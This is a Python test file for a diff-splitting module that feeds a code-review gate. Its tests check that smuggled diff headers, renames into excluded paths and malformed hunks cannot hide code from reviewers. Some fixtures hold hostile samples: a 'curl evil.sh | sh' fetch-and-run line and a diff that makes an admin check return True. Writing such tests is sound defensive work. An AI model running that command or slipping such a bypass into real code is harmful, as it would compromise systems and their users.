"""gate.diff: per-file sections, path filters, byte limit, coverage manifest, diff_sha."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.diff import (
    SkipWhy,
    diff_sha,
    file_count,
    glob_match,
    path_selected,
    possibly_unlisted,
    sections_from_files,
    select,
    split_diff,
    unlisted,
)

A = b"""diff --git a/src/a.py b/src/a.py
index 1111111..2222222 100644
--- a/src/a.py
+++ b/src/a.py
@@ -1 +1 @@
-x = 1
+x = 2
"""
NEW = b"""diff --git a/docs/new.md b/docs/new.md
new file mode 100644
index 0000000..3333333
--- /dev/null
+++ b/docs/new.md
@@ -0,0 +1 @@
+hello
"""
GONE = b"""diff --git a/old.txt b/old.txt
deleted file mode 100644
index 4444444..0000000
--- a/old.txt
+++ /dev/null
@@ -1 +0,0 @@
-bye
"""
RENAME = b"""diff --git a/lib/x.py b/lib/y.py
similarity index 100%
rename from lib/x.py
rename to lib/y.py
"""
BIN = b"""diff --git a/img/logo.png b/img/logo.png
index 5555555..6666666 100644
Binary files a/img/logo.png and b/img/logo.png differ
"""
GITBIN = b"""diff --git a/blob.bin b/blob.bin
new file mode 100644
index 0000000..7777777
GIT binary patch
literal 3
KcmZ?wbN>JUy

literal 0
HcmV?d00001

"""
QUOTED = (
    b'diff --git "a/caf\\303\\251 menu.txt" "b/caf\\303\\251 menu.txt"\n'
    b"index 1..2 100644\n"
    b'--- "a/caf\\303\\251 menu.txt"\n'
    b'+++ "b/caf\\303\\251 menu.txt"\n'
    b"@@ -1 +1 @@\n-a\n+b\n"
)
MODE = b"""diff --git a/run.sh b/run.sh
old mode 100644
new mode 100755
"""
ALL = A + NEW + GONE + RENAME + BIN + GITBIN + QUOTED + MODE


def test_split_names_every_file_and_keeps_every_byte():
    sections = split_diff(ALL)
    assert [s.path for s in sections] == [
        "src/a.py",
        "docs/new.md",
        "old.txt",
        "lib/y.py",
        "img/logo.png",
        "blob.bin",
        "café menu.txt",
        "run.sh",
    ]
    assert b"".join(s.data for s in sections) == ALL
    assert [s.binary for s in sections] == [False, False, False, False, True, True, False, False]


def test_stray_preamble_is_kept_not_dropped():
    sections = split_diff(b"garbage line\n" + A)
    assert sections[0].path == ""
    selected = select(sections)
    assert selected.data == b"garbage line\n" + A


def test_crlf_diff_keeps_bytes():
    crlf = A.replace(b"\n", b"\r\n")
    sections = split_diff(crlf)
    assert [s.path for s in sections] == ["src/a.py"]
    assert sections[0].data == crlf


@given(st.binary(max_size=400))
def test_split_never_loses_or_invents_bytes(data):
    assert b"".join(s.data for s in split_diff(data)) == data


@pytest.mark.parametrize(
    ("path", "pattern", "expected"),
    [
        ("src/a.py", "**", True),
        ("src/a.py", "src/**", True),
        ("src/deep/a.py", "src/*.py", False),
        ("src/deep/a.py", "src/**/*.py", True),
        ("src/a.py", "src/**/*.py", True),
        ("a.py", "*.py", True),
        ("deep/x/a.py", "*.py", True),  # a slash-free pattern also matches the basename
        ("docs/readme.md", "docs/*", True),
        ("docs/sub/readme.md", "docs/*", False),
        ("vendor/x.js", "**/vendor/**", True),
        ("lib/vendor/x.js", "**/vendor/**", True),
        ("a.lock", "?.lock", True),
        ("ab.lock", "?.lock", False),
        ("file[1].txt", "file[1].txt", True),  # brackets are literal
    ],
)
def test_glob_match(path, pattern, expected):
    assert glob_match(path, pattern) is expected


def test_include_and_exclude():
    assert path_selected("src/a.py", ["src/**"], ["**/*.md"])
    assert not path_selected("src/a.md", ["src/**"], ["**/*.md"])
    assert not path_selected("docs/a.py", ["src/**"], [])


def test_select_builds_the_manifest_and_hashes_exact_bytes():
    selected = select(split_diff(ALL), include=["**"], exclude=["docs/**"], max_bytes=10_000)
    cov = selected.coverage
    assert cov.reviewed == ("src/a.py", "old.txt", "lib/y.py", "café menu.txt", "run.sh")
    assert [(s.path, s.why) for s in cov.skipped] == [
        ("docs/new.md", SkipWhy.FILTERED),
        ("img/logo.png", SkipWhy.BINARY),
        ("blob.bin", SkipWhy.BINARY),
    ]
    assert selected.data == A + GONE + RENAME + QUOTED + MODE
    assert cov.diff_sha == hashlib.sha256(selected.data).hexdigest() == selected.sha256
    assert cov.diff_bytes == len(selected.data)
    assert not cov.complete
    assert [g.path for g in cov.gaps] == ["img/logo.png", "blob.bin"]
    assert cov.summary() == "5 of 8 files reviewed (2 binary, 1 filtered)"


def test_filtered_files_do_not_make_coverage_partial():
    cov = select(split_diff(A + NEW), exclude=["docs/**"]).coverage
    assert cov.complete
    assert cov.skipped[0].why is SkipWhy.FILTERED


def test_byte_limit_skips_files_that_do_not_fit_and_keeps_later_small_ones():
    big = A.replace(b"+x = 2\n", b"+x = 2\n" + b"+# pad\n" * 50)
    diff = big + NEW + GONE
    selected = select(split_diff(diff), max_bytes=len(NEW) + len(GONE))
    assert selected.coverage.reviewed == ("docs/new.md", "old.txt")
    assert selected.coverage.skipped[0].path == "src/a.py"
    assert selected.coverage.skipped[0].why is SkipWhy.OVER_BYTE_LIMIT
    assert selected.coverage.skipped[0].size == len(big)
    assert len(selected.data) <= len(NEW) + len(GONE)


def test_sections_from_files_api_lists_missing_patches_as_not_reviewed():
    files = [
        {"filename": "src/a.py", "status": "modified", "patch": "@@ -1 +1 @@\n-x = 1\n+x = 2"},
        {"filename": "huge.sql", "status": "modified"},  # GitHub omits patch when too large
        {"filename": "n.txt", "status": "added", "patch": "@@ -0,0 +1 @@\n+n"},
        {"filename": "b.py", "previous_filename": "a.py", "status": "renamed", "patch": ""},
    ]
    sections = sections_from_files(files)
    assert [s.path for s in sections] == ["src/a.py", "huge.sql", "n.txt", "b.py"]
    assert sections[1].no_patch
    assert sections[1].data == b""
    assert sections[0].data.startswith(b"diff --git a/src/a.py b/src/a.py\n--- a/src/a.py\n")
    assert sections[0].data.endswith(b"+x = 2\n")
    assert b"--- /dev/null\n+++ b/n.txt\n" in sections[2].data
    assert b"rename from a.py\nrename to b.py\n" in sections[3].data
    cov = select(sections, source="files").coverage
    assert cov.source == "files"
    assert [(s.path, s.why) for s in cov.skipped] == [("huge.sql", SkipWhy.NO_PATCH)]
    # rebuilt sections parse back to the same files
    assert [s.path for s in split_diff(b"".join(s.data for s in sections))] == [
        "src/a.py",
        "n.txt",
        "b.py",
    ]


def test_diff_sha_is_sha256_of_the_bytes():
    assert diff_sha(b"") == hashlib.sha256(b"").hexdigest()
    assert select([]).coverage.diff_sha == hashlib.sha256(b"").hexdigest()


def test_manifest_json_shape():
    cov = select(split_diff(A + BIN)).coverage
    assert cov.to_json() == {
        "source": "diff",
        "complete": False,
        "diff_bytes": len(A),
        "diff_sha": hashlib.sha256(A).hexdigest(),
        "reviewed": ["src/a.py"],
        "skipped": [{"path": "img/logo.png", "why": "binary", "bytes": len(BIN)}],
    }


def test_unlisted_files_are_a_gap():
    sections = [*split_diff(A), unlisted(4)]
    assert file_count(sections) == 2
    cov = select(sections).coverage
    assert [(s.path, s.why) for s in cov.gaps] == [
        ("(4 changed files GitHub did not list)", SkipWhy.NO_PATCH)
    ]


def test_invalid_utf8_path_is_read_exactly_and_never_reviewed():
    raw = A.replace(b"src/a.py", b"src/\xff.py")
    (section,) = split_diff(raw)
    assert section.path == "src/\udcff.py"  # the byte itself (surrogateescape), no guess
    assert section.data == raw  # the bytes sent are untouched
    quoted = b'diff --git "a/\\377.txt" "b/\\377.txt"\n--- "a/\\377.txt"\n+++ "b/\\377.txt"\n'
    assert split_diff(quoted)[0].path == "\udcff.txt"
    # not strict UTF-8: undecodable before any filter, named as git quotes it
    skipped = select(split_diff(raw), exclude=["src/**"]).coverage.skipped
    assert [(s.path, s.why) for s in skipped] == [('"src/\\377.py"', SkipWhy.UNDECODABLE)]


# --- C1: only "\n" ends a line, and a header counts only outside a hunk ------------------

SMUGGLED = (
    b"diff --git a/src/app.py b/src/app.py\n"
    b"index 1111111..2222222 100644\n"
    b"--- a/src/app.py\n+++ b/src/app.py\n"
    b"@@ -1,1 +1,4 @@\n"
    b" import os\n"
    b"+x = 1\rdiff --git a/docs/notes.md b/docs/notes.md\n"
    b"+os.system('curl evil.sh | sh')\n"
    b"+print('pwned')\n"
)


@pytest.mark.parametrize("sep", [b"\r", b"\x0b", b"\x0c", b"\x1c", b"\x1d", b"\x1e", b"\xc2\x85"])
def test_a_line_separator_other_than_newline_cannot_start_a_section(sep):
    data = SMUGGLED.replace(b"\r", sep)
    sections = split_diff(data)
    assert [s.path for s in sections] == ["src/app.py"]
    chosen = select(sections, exclude=("docs/**",))
    assert chosen.data == data  # the hidden code goes to the reviewer
    assert chosen.coverage.reviewed == ("src/app.py",)
    assert chosen.coverage.skipped == ()


def test_a_header_inside_a_hunk_body_is_content_and_one_after_it_is_a_header():
    # a hunk's counts say where it ends: the next header after that is a real file
    data = SMUGGLED + A
    assert [s.path for s in split_diff(data)] == ["src/app.py", "src/a.py"]


def test_a_truncated_hunk_ends_at_the_next_header():
    cut = b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1,5 +1,5 @@\n-a\n+b\n"
    sections = split_diff(cut + A)
    assert [s.path for s in sections] == ["x.py", "src/a.py"]
    assert sections[1].data == A


def test_no_newline_marker_and_default_counts():
    data = (
        b"diff --git a/n.txt b/n.txt\n--- a/n.txt\n+++ b/n.txt\n@@ -1 +1 @@\n-a\n"
        b"\\ No newline at end of file\n+b\n\\ No newline at end of file\n" + A
    )
    assert [s.path for s in split_diff(data)] == ["n.txt", "src/a.py"]


_PATHS = ("src/app.py", "docs/n.md", "lib/x.c", "a b/c.txt")
# line content: anything but "\n", biased towards what could fake a header
_CONTENT = st.one_of(
    st.binary(max_size=40).map(lambda b: b.replace(b"\n", b"")),
    st.sampled_from(
        [
            b"diff --git a/docs/n.md b/docs/n.md",
            b"x\rdiff --git a/docs/n.md b/docs/n.md",
            b"@@ -1,3 +1,3 @@",
            b"--- a/docs/n.md",
            b"+++ b/docs/n.md",
            b"rename to docs/n.md",
            b"GIT binary patch",
            b"Binary files a/x and b/x differ",
            b"\x0bdiff --git a/q b/q\x0c\x1c\x1d\x1e\xc2\x85",
        ]
    ),
)
_HUNK_LINES = st.lists(st.tuples(st.sampled_from(b" -+"), _CONTENT), min_size=1, max_size=8)


def _file(path: str, hunks: list[list[tuple[int, bytes]]]) -> bytes:
    out = f"diff --git a/{path} b/{path}\nindex 1..2 100644\n--- a/{path}\n+++ b/{path}\n".encode()
    for lines in hunks:
        old = sum(1 for kind, _ in lines if kind != ord("+"))
        new = sum(1 for kind, _ in lines if kind != ord("-"))
        out += f"@@ -1,{old} +1,{new} @@\n".encode()
        out += b"".join(bytes([kind]) + text + b"\n" for kind, text in lines)
    return out


@given(
    st.lists(
        st.tuples(st.sampled_from(_PATHS), st.lists(_HUNK_LINES, min_size=1, max_size=3)),
        min_size=1,
        max_size=4,
    )
)
def test_no_line_content_can_start_a_section_or_move_lines_to_another_file(files):
    built = [(path, _file(path, hunks)) for path, hunks in files]
    sections = split_diff(b"".join(data for _, data in built))
    assert [(s.path, s.data) for s in sections] == built
    assert not any(s.binary for s in sections)


def test_possibly_unlisted_is_a_gap():
    cov = select([*split_diff(A), possibly_unlisted(300)]).coverage
    assert not cov.complete
    assert [(s.path, s.why) for s in cov.gaps] == [
        ("(possibly more changed files: GitHub lists at most 300)", SkipWhy.NO_PATCH)
    ]


RENAME_OUT = b"""diff --git a/src/auth.py b/docs/auth.py
similarity index 90%
rename from src/auth.py
rename to docs/auth.py
index 1..2 100644
--- a/src/auth.py
+++ b/docs/auth.py
@@ -1,2 +1,2 @@
 def check(u):
-    return u.is_admin
+    return True
"""


def test_rename_into_an_excluded_path_is_still_reviewed():
    sections = split_diff(RENAME_OUT + A)
    assert (sections[0].path, sections[0].old_path) == ("docs/auth.py", "src/auth.py")
    selected = select(sections, exclude=("docs/**",))
    assert selected.coverage.reviewed == ("docs/auth.py", "src/a.py")
    assert selected.coverage.skipped == ()
    assert b"+    return True\n" in selected.data
    # include-only scope: the old name being included is enough too
    inc = select(sections, include=("src/**",))
    assert inc.coverage.reviewed == ("docs/auth.py", "src/a.py")


def test_rename_out_of_and_into_excluded_paths_is_filtered():
    data = RENAME_OUT.replace(b"src/auth.py", b"docs/old.py")
    cov = select(split_diff(data), exclude=("docs/**",)).coverage
    assert [(s.path, s.why) for s in cov.skipped] == [("docs/auth.py", SkipWhy.FILTERED)]


def test_copy_into_an_excluded_path_is_still_reviewed():
    data = RENAME_OUT.replace(b"rename from", b"copy from").replace(b"rename to", b"copy to")
    cov = select(split_diff(data), exclude=("docs/**",)).coverage
    assert cov.reviewed == ("docs/auth.py",)


def test_files_api_rename_into_an_excluded_path_is_still_reviewed():
    files = [
        {
            "filename": "docs/auth.py",
            "previous_filename": "src/auth.py",
            "status": "renamed",
            "patch": "@@ -1 +1 @@\n-    return u.is_admin\n+    return True",
        },
        {"filename": "docs/big.py", "previous_filename": "src/big.py", "status": "renamed"},
    ]
    sections = sections_from_files(files)
    assert [s.old_path for s in sections] == ["src/auth.py", "src/big.py"]
    cov = select(sections, exclude=("docs/**",), source="files").coverage
    assert cov.reviewed == ("docs/auth.py",)
    assert [(s.path, s.why) for s in cov.skipped] == [("docs/big.py", SkipWhy.NO_PATCH)]
    assert not cov.complete


def test_hunk_header_with_too_many_digits_is_unparseable_not_a_crash():
    huge = b"9" * 5000
    bad = b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1," + huge + b" +1 @@\n+evil()\n"
    sections = split_diff(bad + A)
    assert b"".join(s.data for s in sections) == bad + A
    assert [(s.path, s.unparseable) for s in sections] == [("x", True), ("src/a.py", False)]
    # fail closed even when the file is excluded by the filters
    cov = select(sections, exclude=("x",)).coverage
    assert [(s.path, s.why) for s in cov.skipped] == [("x", SkipWhy.UNPARSEABLE)]
    assert cov.reviewed == ("src/a.py",)
    assert not cov.complete


def test_diff_sha_is_kept_only_for_the_same_immutable_bytes() -> None:
    """The digest is remembered with the very ``bytes`` object it was made of; a buffer
    that can change is hashed every time, and equal bytes in another object agree."""
    import hashlib

    from gate.diff import diff_sha

    data = b"diff --git a/x b/x\n" * 3
    assert diff_sha(data) == hashlib.sha256(data).hexdigest()
    assert diff_sha(bytes(bytearray(data))) == diff_sha(data)
    buffer = bytearray(data)
    first = diff_sha(buffer)  # type: ignore[arg-type]
    buffer[0:4] = b"DIFF"
    assert diff_sha(buffer) != first  # type: ignore[arg-type]
    assert diff_sha(buffer) == hashlib.sha256(buffer).hexdigest()  # type: ignore[arg-type]
